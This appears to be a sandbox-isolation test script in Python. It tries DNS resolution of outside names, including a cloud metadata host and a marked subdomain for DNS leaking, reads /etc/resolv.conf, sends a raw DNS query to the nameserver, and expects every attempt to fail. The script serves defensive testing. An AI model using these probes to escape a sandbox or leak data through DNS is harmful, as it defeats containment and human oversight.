# ruff: noqa
# Attack: resolve names (getaddrinfo, gethostbyname) to reach the outside world or leak data
#   through DNS queries, and query the configured nameserver directly over UDP and TCP.
# Must hold: no lookup succeeds (no "LEAK:" line); it fails.
import socket

for name in ("example.com", "__MARK__.example.com", "metadata.google.internal"):
    try:
        print(f"LEAK: resolved {name}:", socket.getaddrinfo(name, 80)[:1])
    except OSError as e:
        print(name, e)
try:
    servers = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
except OSError:
    servers = []
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
for server in servers[:3]:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.sendto(query, (server, 53))
            print(f"LEAK: DNS answer from {server}", s.recv(512)[:20])
    except OSError as e:
        print(server, e)
raise AssertionError("attack finished")
